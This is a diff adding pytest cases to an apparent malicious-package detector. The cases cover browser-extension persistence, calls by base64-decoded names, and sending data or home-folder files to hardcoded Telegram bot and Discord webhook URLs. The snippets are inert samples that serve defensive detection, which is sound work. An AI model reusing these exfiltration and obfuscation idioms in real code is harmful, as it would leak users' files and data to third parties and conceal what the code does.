@@ -177,3 +177,89 @@ def go(u):
 def test_a_path_is_followed_through_what_a_method_returns(returned: str, expected: list[set[Taint]]) -> None:
     source = DROPPER.replace("{returned}", returned)
     assert [taints - {Taint.ENVIRONMENT} for sink, _, taints in flows(source) if sink is P] == expected
+
+
+EXTENSION = '{"name": "x", "manifest_version": 2, "permissions": ["clipboardWrite", "clipboardRead"]}'
+
+
+def test_a_written_browser_extension_that_reaches_for_the_clipboard_is_a_place_that_starts_by_itself() -> (
+    None
+):
+    found = facts(f"open('x/manifest.json', 'w').write({EXTENSION!r})")
+    assert ["browser extension"] == [
+        use.api for use in found.uses if use.capability is Capability.PERSISTENCE
+    ]
+
+
+@pytest.mark.parametrize(
+    "text", ['{"manifest_version": 2}', '{"permissions": ["clipboardRead"]}', "clipboardRead"]
+)
+def test_other_manifests_are_files_as_any(text: str) -> None:
+    found = facts(f"open('x/manifest.json', 'w').write({text!r})")
+    assert [] == [use for use in found.uses if use.capability is Capability.PERSISTENCE]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import base64, os\ngetattr(os, base64.b64decode('Z2V0Y3dk').decode())()",
+        "import base64\n__import__(base64.b64decode('b3M=').decode()).system('x')",
+    ],
+)
+def test_a_call_by_a_decoded_name_is_told_though_the_name_is_known(source: str) -> None:
+    assert (Capability.CODE, "computed-call", {Taint.DECODED}) in flows(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import base64\nbase64.b64decode('Z2V0Y3dk').decode().strip()",
+        "import base64, json\njson.loads(base64.b64decode(x)).get('a')",
+        "import os\ngetattr(os, 'getcwd')()",
+        "import os\ngetattr(os, name)()",
+    ],
+)
+def test_methods_of_decoded_data_bear_their_own_names(source: str) -> None:
+    assert "computed-call" not in [api for _, api, _ in flows(source)]
+
+
+def test_a_bot_of_telegram_sends_to_its_host() -> None:
+    source = (
+        "import os, telebot\nbot = telebot.TeleBot('0:inert')\nbot.send_photo('1', open('~/x.jpg', 'rb'))"
+    )
+    assert [("telebot.TeleBot.send_photo", (Taint.FILE,), "https://api.telegram.org/bot")] == [
+        (flow.api, flow.taints, flow.target) for flow in facts(source).flows
+    ]
+
+
+def test_a_bot_that_sends_what_it_is_told_sends_nothing_private() -> None:
+    assert [] == flows("import telebot\ndef tell(text): telebot.TeleBot('0:inert').send_message('1', text)")
+
+
+BOT = "https://api.telegram.org/bot0000000000:" + "x" * 35
+HOOK = "https://discord.com/api/webhooks/" + "0" * 18 + "/" + "x" * 68
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        f"requests.post('{HOOK}', json=x)",
+        f"requests.get('{BOT}/sendMessage?text=' + x)",
+        f"class A:\n  def __init__(self): self.url = '{BOT}'\n  def f(self, x): requests.post(self.url + '/sendMessage', data=x)",
+    ],
+)
+def test_a_mailbox_with_its_key_is_told(source: str) -> None:
+    assert 1 == len([use for use in facts("import requests\n" + source).uses if use.api == "own-mailbox"])
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "requests.post(f'https://api.telegram.org/bot{token}/sendMessage', data=x)",
+        "requests.post('https://discord.com/api/webhooks/' + key, json=x)",
+        "requests.post('https://discord.com/api/webhooks/0/inert', json=x)",
+        f"print('{HOOK}')",
+    ],
+)
+def test_a_mailbox_whose_key_is_given_from_outside_is_not(source: str) -> None:
+    assert [] == [use for use in facts("import requests\n" + source).uses if use.api == "own-mailbox"]
